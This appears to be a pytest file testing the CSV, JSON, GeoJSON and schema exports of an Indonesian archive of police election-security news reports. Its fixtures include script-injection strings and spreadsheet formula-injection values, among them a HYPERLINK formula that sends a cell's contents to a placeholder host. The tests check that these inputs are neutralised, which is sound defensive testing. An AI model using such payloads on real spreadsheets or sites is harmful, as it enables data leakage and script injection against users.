"""Unit tests of the exports: schema, CSV round trip, GeoJSON points (no Pelican)."""

from __future__ import annotations

import json

import jsonschema
import pytest

from arsip_core.dictionary import (
    FIELD_NAMES,
    FIELDS,
    JSON_COLUMNS,
    missing_from_dictionary,
    record_schema,
)
from arsip_core.model import CountItem, Official, Place, Record
from arsip_data.describe import citation, date_range
from arsip_data.export import (
    defuse,
    from_csv,
    json_lines_document,
    record_data,
    restore,
    to_csv,
    to_geojson,
    to_json,
)

VALIDATOR = jsonschema.Draft202012Validator(
    record_schema(), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
)

FULL = Record(
    id="2702e9263e70",
    title="Polda Kalbar Siagakan 3294 Personil",
    outlet="IWO",
    url="https://iwo.example/berita/1",
    author="Safiyudin",
    published="2024-02-14T23:04:00+07:00",
    event_date="2024-02-14",
    event_dates=("2024-02-14",),
    event_date_precision="day",
    dateline_place="Pontianak",
    province="Kalimantan Barat",
    places=(Place("Kota Pontianak", "kota", "Kalimantan Barat", -0.0263, 109.3425),),
    police_units=("Polda Kalbar",),
    operation="Operasi Mantap Brata Kapuas 2024",
    election="pemilu-2024",
    activities=("apel", "pengamanan-tps"),
    officials=(Official("Kombes Pol", "Raden Petit Wijaya", "Kabidhumas"),),
    personnel_total=3294,
    personnel_text="3294 personel",
    personnel_breakdown=(CountItem("Polwan", 200), CountItem("Brimob", 180)),
    tps_counts=(CountItem("TPS", 12),),
    activity_points=361,
    source_file="2024-02-14-kalbar.txt",
    warnings=("catatan; dengan titik koma, dan koma",),
)

CASES = {
    "lengkap": FULL,
    "kosong": Record(id="000000000000", title="Judul saja"),
    "teks_berbahaya": Record(
        id="abcdefabcdef",
        title='</script><script>alert(1)</script> "kutip", koma; baris\nbaru',
        outlet="  ",
        police_units=('Polres "A", B', "=1+1"),
        places=(Place("Tempat tanpa koordinat", "", "Kalimantan Utara"),),
    ),
    "unicode": Record(id="123456789abc", title="Pengamanan — “TPS” ½ é 漢"),
    "rumus_spreadsheet": Record(
        id="fedcbafedcba",
        title='=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
        outlet="'=sudah berapostrof",
        author="-2+3",
        operation="@SUM(A1)",
        personnel_text="-5 personel",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_exported_record_validates(case):
    row = record_data(CASES[case], "/artikel/x/")
    VALIDATOR.validate(row)
    assert list(row) == list(FIELD_NAMES)


@pytest.mark.parametrize("case", sorted(CASES))
def test_csv_reads_back_equal_to_json(case):
    rows = [record_data(CASES[case], "/artikel/x/")]
    from_json = json.loads(to_json(rows, {}))["records"]
    assert from_csv(to_csv(rows)) == from_json


def test_csv_lines_kept_between_files_give_the_same_bytes():
    rows = [record_data(CASES[case], f"/artikel/{case}/") for case in sorted(CASES)]
    lines: dict = {}
    assert to_csv(rows, lines) == to_csv(rows)
    part = rows[::2]
    assert to_csv(part, lines) == to_csv(part)
    assert len(lines) == len(rows)
    # A row met again as another object (equal or not) is written afresh.
    changed = [{**rows[0], "title": "Judul lain"}, *rows[1:]]
    assert to_csv(changed, lines) == to_csv(changed)


def test_csv_holds_lists_and_objects_as_json_text():
    text = to_csv([record_data(FULL, "/a/")])
    header, line = text.split("\r\n")[:2]
    assert header.split(",") == list(FIELD_NAMES)
    assert '"[""Polda Kalbar""]"' in line
    assert JSON_COLUMNS >= {"places", "police_units", "activities", "officials"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+62 811", "'+62 811"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-x", "'-x"),
        ("\tTab", "'\tTab"),
        ("'=x", "''=x"),
        ("-5 personel", "-5 personel"),
        ("Polda Kalbar", "Polda Kalbar"),
        ("'kutip", "'kutip"),
    ],
)
def test_formula_cells_are_defused_and_restored(value, cell):
    assert defuse(value) == cell
    assert restore(cell) == value


def test_blank_optional_text_is_null():
    row = record_data(CASES["teks_berbahaya"], "/a/")
    assert row["outlet"] is None


def test_schema_rejects_what_it_should():
    row = record_data(FULL, "/a/")
    for bad in (
        {**row, "election": "pemilu-2019"},
        {**row, "activities": ["piknik"]},
        {**row, "personnel_total": -1},
        {**row, "url": "javascript:alert(1)"},
        {**row, "extra": 1},
        {k: v for k, v in row.items() if k != "id"},
    ):
        with pytest.raises(jsonschema.ValidationError):
            VALIDATOR.validate(bad)


def test_schema_is_draft_2020_12_and_covers_every_record_field():
    schema = record_schema("https://contoh.id/data/rekaman.schema.json")
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert missing_from_dictionary() == ()


def test_geojson_has_a_point_per_place_with_coordinates():
    rows = [record_data(r, f"/artikel/{r.id}/") for r in CASES.values()]
    collection = json.loads(to_geojson(rows, {"title": "uji"}))
    assert collection["type"] == "FeatureCollection"
    [feature] = collection["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [109.3425, -0.0263]}
    assert feature["properties"]["record_id"] == FULL.id
    assert feature["properties"]["place"] == "Kota Pontianak"


def test_date_range_and_citations():
    rows = [
        {"published": "2024-11-27T09:00:00+08:00"},
        {"published": None, "event_date": "2024-02-03"},
        {"published": None},
    ]
    assert date_range(rows) == ("2024-02-03", "2024-11-27")
    text = citation(
        author="Tim",
        title="Arsip",
        modified="2024-11-27",
        url="/data/",
        license_name="X",
    )
    assert text == "Tim. (2024). Arsip [Data set], versi 2024-11-27. /data/. Lisensi X."


def test_dictionary_types_read_in_indonesian():
    labels = {f.name: f.type_label for f in FIELDS}
    assert labels["outlet"] == "teks atau kosong"
    assert labels["places"] == "daftar"
    assert labels["personnel_total"] == "bilangan bulat atau kosong"
    assert labels["title"] == "teks"


ITEMS = [{"id": "a", "judul": 'Apel "siaga"\nbaris dua'}, {"id": "b"}]


@pytest.mark.parametrize("items", [[], ITEMS, [1, 2]])
def test_json_lines_document_is_json_with_one_item_per_line(items):
    head = {"title": "Arsip", "count": len(items)}
    text = json_lines_document(head, "records", items)
    assert json.loads(text) == {**head, "records": items}
    assert text.endswith("\n")
    lines = text.splitlines()
    # Head fields one per line; then each item on a line of its own.
    assert lines[1] == '  "title": "Arsip",'
    if items:
        start = lines.index('  "records": [') + 1
        assert [json.loads(line.rstrip(",")) for line in lines[start:-2]] == items


def test_an_unchanged_export_is_not_compressed_again(tmp_path, monkeypatch):
    import gzip
    import os

    import arsip_data.gzchunks as gzchunks
    import arsip_data.plugin as data

    settings = {
        "ARSIP_DATA_GZIP": True,
        "CACHE_PATH": str(tmp_path / "cache"),
        "CACHE_CONTENT": True,
    }
    out = tmp_path / "out"
    packed = []
    compress = gzchunks.deflate_piece
    monkeypatch.setattr(
        gzchunks,
        "deflate_piece",
        lambda primer, raw: packed.append(raw) or compress(primer, raw),
    )
    written = data.write_export(str(out), "arsip.csv", "a,b\n1,2\n", settings)
    size = (out / "arsip.csv.gz").stat().st_size
    assert written == ("arsip.csv.gz", size, 8)
    target = out / "arsip.csv.gz"
    first = target.stat()
    name, size, _raw = data.write_export(str(out), "arsip.csv", "a,b\n1,2\n", settings)
    assert len(packed) == 1 and size == first.st_size
    assert target.stat().st_mtime_ns == first.st_mtime_ns  # left alone
    # Another text, or a file changed behind the build's back: compressed again.
    data.write_export(str(out), "arsip.csv", "a,b\n1,3\n", settings)
    assert len(packed) == 2
    assert gzip.decompress(target.read_bytes()) == b"a,b\n1,3\n"
    os.utime(target, ns=(0, 0))
    data.write_export(str(out), "arsip.csv", "a,b\n1,3\n", settings)
    assert len(packed) == 3
    # No cache kept: compressed every time.
    data.write_export(str(out), "arsip.csv", "a,b\n1,3\n", {"ARSIP_DATA_GZIP": True})
    assert len(packed) == 4
